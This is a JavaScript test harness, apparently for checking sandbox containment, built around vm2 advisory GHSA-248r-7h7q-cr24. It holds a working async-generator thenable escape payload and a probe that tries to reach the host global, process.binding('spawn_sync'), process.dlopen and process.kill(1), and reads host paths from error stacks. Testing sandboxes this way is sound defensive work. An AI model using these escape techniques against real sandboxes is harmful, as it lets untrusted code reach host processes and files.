// GHSA-248r-7h7q-cr24, vm2: `yield*` of an async generator that is ended by `return(thenable)`: the engine itself calls `then`, and what
// fails in there goes past what cleans errors.
const attacks = {
  "return, throw and next with what is thenable": {
    ends: ["ok"],
    async run() {
      const got = [];
      const thenable = {
        then(resolve, reject) {
          got.push(this, resolve, reject, resolve.constructor);
          import("x").catch((error) => (got.push(error), reject(error)));
        },
      };
      for (const name of ["return", "throw", "next"]) {
        const inner = {
          [Symbol.asyncIterator]: () => ({
            next: () => ({ value: thenable, done: false }),
            [name]: (value) => (got.push(value), thenable),
          }),
        };
        const outer = (async function* () {
          try {
            yield* inner;
          } catch (error) {
            got.push(error);
          } finally {
            yield thenable;
          }
        })();
        for (const step of ["next", name, "return"])
          await outer[step](thenable).then(
            (value) => got.push(value),
            (error) => got.push(error),
          );
      }
      return got.length > 10 ? probe(...got) : "nothing was called";
    },
  },
};

const names = Object.getOwnPropertyNames(globalThis);
/** What of a host can be named now, by this code or by what the attack got hold of: "held", or what was reached. */
function probe(...got) {
  const reached = [];
  const say = (what) => void reached.push(what);
  for (const value of [...got, console, fetch, process, import.meta, Buffer]) {
    try {
      const world = value?.constructor?.constructor?.("return this")();
      if (world !== undefined && world !== globalThis) say("a global object that is not the guest's");
    } catch {}
    if (!(value instanceof Error)) continue;
    const [text] =
      /\/(?:home|root|usr|tmp|var|etc|proc|opt|work|rustc)\/[^\s)]*|[\w/]+\.rs\b|\b(?:wasmtime|rquickjs|cargo|panicked)\b|node:internal/.exec(
        `${value.stack} ${value.message}`,
      ) ?? [];
    if (text !== undefined) say(`an error's text tells ${text}`);
  }
  for (const name of ["Deno", "Bun", "require", "module", "exports", "WebAssembly", "std", "os", "__bootstrap"]) {
    if ((0, eval)(`typeof ${name}`) !== "undefined") say(name);
  }
  if (process.mainModule !== undefined) say("process.mainModule");
  if (process.execPath !== "/node" || process.pid !== 1) say("another process");
  for (const open of [
    () => process.binding("fs"),
    () => process.binding("spawn_sync"),
    () => process.dlopen({}, "x"),
    () => process._linkedBinding("fs"),
    () => process.kill(1),
  ]) {
    try {
      say(`${open} gave ${open()}`);
    } catch (error) {
      if (!(error instanceof Error)) say(`${open} threw ${error}`);
    }
  }
  const more = Object.getOwnPropertyNames(globalThis).filter((name) => !names.includes(name));
  if (more.length > 0) say(`the globals ${more}`);
  return reached.length === 0 ? "held" : [...new Set(reached)].join(", ");
}

export default {
  async fetch(request) {
    const name = new URL(request.url).searchParams.get("attack");
    if (name === null) {
      return Response.json(Object.entries(attacks).map(([name, { ends, times = 1 }]) => ({ name, ends, times })));
    }
    return new Response((await attacks[name].run(request)) ?? "held");
  },
};
